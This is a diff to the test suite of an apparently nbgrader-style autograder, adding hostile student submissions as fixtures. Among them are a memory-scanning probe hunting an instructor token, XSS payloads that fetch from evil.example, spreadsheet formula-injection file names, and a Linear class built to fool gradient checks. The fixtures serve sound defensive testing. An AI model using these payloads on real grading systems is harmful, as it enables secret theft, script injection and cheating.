@@ -142,6 +142,153 @@ CASES = {
 }
 
 
+def _deep_metadata(root: Path) -> None:
+    """A notebook whose metadata nests 5000 levels deep (39 KB): a JSON parser recurses."""
+    import json
+    text = json.dumps(nbformat.v4.new_notebook())
+    deep = '"x": ' + "{" * 5000 + "}" * 5000
+    path = root / "val-deep-metadata" / A / f"{A}.ipynb"
+    path.parent.mkdir(parents=True)
+    path.write_text(text.replace('"metadata": {}', "\"metadata\": {" + deep + "}", 1))
+
+
+def _surrogate_grade_id(root: Path) -> None:
+    """A graded cell whose grade id is a lone surrogate: valid JSON, but no UTF-8 form."""
+    nb = _answered()
+    cell = nbformat.v4.new_code_cell("pass", metadata={"nbgrader": {
+        "grade": True, "solution": False, "locked": True, "points": 5, "grade_id": "\ud800",
+        "schema_version": 3}})
+    nb.cells.append(cell)
+    import json
+    path = root / "wes-surrogate-id" / A / f"{A}.ipynb"
+    path.parent.mkdir(parents=True)
+    path.write_text(json.dumps(nb))  # ASCII, the surrogate as its escape \\ud800
+
+
+def _nested_folders(root: Path) -> None:
+    """600 folders, one inside the other, beside the notebook (the exchange copies the whole
+    folder a student submits)."""
+    _write(root, "xan-nested-folders", _answered())
+    deep = root / "xan-nested-folders" / A
+    for _ in range(600):
+        deep = deep / "d"
+    deep.mkdir(parents=True)
+    (deep / "bottom.txt").write_text("here")
+
+
+# Every method zeroes every array it is given and returns zeros: a backward pass whose check
+# computed its expectations from the arrays after the call would take zeros for right.
+ZEROING_LINEAR = """
+class Linear:
+    def __init__(self, W, b):
+        W[...] = 0
+        b[...] = 0
+        self.W, self.b = W, b
+
+    def forward(self, X):
+        X[...] = 0
+        self.X = X
+        return np.zeros((X.shape[0], self.W.shape[0]), dtype=X.dtype)
+
+    def backward(self, grad_logits):
+        grad_logits[...] = 0
+        self.grad_W = np.zeros_like(self.W)
+        self.grad_b = np.zeros_like(self.b)
+        return np.zeros_like(self.X)
+"""
+
+# Reads the whole memory of its own kernel, and every frame the kernel has, for a secret of the
+# grading command's environment (an instructor's token, say): the tests set CANARY_VAR to
+# "qzcanary" and 32 random hex digits, which the probe does not know; it prints what it finds.
+CANARY_VAR = "INSTRUCTOR_TOKEN"
+MEMORY_PROBE = """
+import gc, re, sys
+def _secrets_seen():
+    found = set()
+    def look(x, depth=0):
+        if isinstance(x, bytes):
+            x = x.decode(errors="replace")
+        if isinstance(x, str):
+            if "qzcanary" in x:
+                found.update(re.findall(r"qzcanary([0-9a-f]{32})", x))
+        elif depth < 3 and isinstance(x, dict):
+            for k, v in x.items():
+                look(k, depth + 1)
+                look(v, depth + 1)
+        elif depth < 3 and isinstance(x, (list, tuple)):
+            for v in x:
+                look(v, depth + 1)
+    for frame in sys._current_frames().values():  # every frame, and what each can reach
+        while frame is not None:
+            look(frame.f_locals)
+            frame = frame.f_back
+    for obj in gc.get_objects():  # every container of the heap, and the strings in it
+        if isinstance(obj, (dict, list, tuple)):
+            look(obj, 2)
+    try:  # the bytes of the whole process, where the kernel may read them (it may not)
+        with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
+            for line in maps:
+                fields = line.split()
+                start, end = (int(x, 16) for x in fields[0].split("-"))
+                if "r" in fields[1] and end - start < 2**31:
+                    try:
+                        mem.seek(start)
+                        look(mem.read(end - start))
+                    except (OSError, ValueError, OverflowError):
+                        pass
+    except OSError:
+        found.add("(its memory file is closed to it)")
+    return sorted(found)
+print("secrets seen:", _secrets_seen() or "none")
+"""
+
+# What a feedback page must not run or load: an image whose width smuggles a handler, an
+# output that names a remote file, a remote image in the written answer, raw HTML in Markdown.
+SCRIPTED = """
+from IPython.display import publish_display_data
+pixel = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9"
+         "awAAAABJRU5ErkJggg==")
+publish_display_data({"image/png": pixel},
+                     metadata={"image/png": {"width": "1 onerror=fetch('http://evil.example/w')"}})
+publish_display_data({"image/png": pixel},
+                     metadata={"filenames": {"image/png": "http://evil.example/f.png"}})
+"""
+
+
+def _scripted_feedback(root: Path) -> None:
+    nb = _answered(predict=REF_PREDICT + SCRIPTED)
+    nb.cells.insert(1, nbformat.v4.new_markdown_cell(
+        "<img src=x onerror=\"fetch('http://evil.example/m')\"> see my plot"))
+    written = next(c for c in nb.cells if notebooks.is_written(c))
+    written.source = "As my figure shows: ![plot](http://evil.example/a.png)"
+    _write(root, "abe-scripts-feedback", nb)
+
+
+def _ships_html(root: Path) -> None:
+    _write(root, "bea-ships-html", _answered())
+    (root / "bea-ships-html" / A / "evil.html").write_text("<script>alert(1)</script>")
+
+
+CASES.update({
+    "deep-metadata": (Case("val-deep-metadata", "levels deep"), _deep_metadata),
+    "surrogate-grade-id": (Case("wes-surrogate-id", "unknown grade id", points=14),
+                           _surrogate_grade_id),
+    "nested-folders": (Case("xan-nested-folders", "not copied: folders more than 16 deep",
+                            points=14, flagged=False), _nested_folders),
+    "zeroes-its-inputs": (Case("yul-zeroes-inputs", "", points=9, flagged=False),
+                          lambda r: _write(r, "yul-zeroes-inputs",
+                                           _answered(linear=ZEROING_LINEAR))),
+    "reads-memory": (Case("zoe-reads-memory", "", points=14, flagged=False),
+                     lambda r: _write(r, "zoe-reads-memory",
+                                      _answered(predict=REF_PREDICT + MEMORY_PROBE))),
+    "scripts-feedback": (Case("abe-scripts-feedback", "", points=14, flagged=False),
+                         _scripted_feedback),
+    "ships-html": (Case("bea-ships-html", "", points=14, flagged=False), _ships_html),
+})
+# Names a spreadsheet would run as formulas: a student folder and a stray file at the top.
+FORMULA_NAMES = ['=HYPERLINK("https:evil.example","grade")', "+SUM(1+1)*cmd|' -C calc'!A0"]
+
+
 def build(root: Path) -> list[Case]:
     """Write every catalogued submission plus the three example students under root."""
     shutil.copytree(course.EXAMPLES, root, dirs_exist_ok=True)
@@ -153,5 +300,7 @@ def build(root: Path) -> list[Case]:
     for case, make in CASES.values():
         make(root)
         cases.append(case)
+    (root / FORMULA_NAMES[0] / A).mkdir(parents=True)
+    (root / FORMULA_NAMES[1]).write_text("not a folder")
     return cases
 
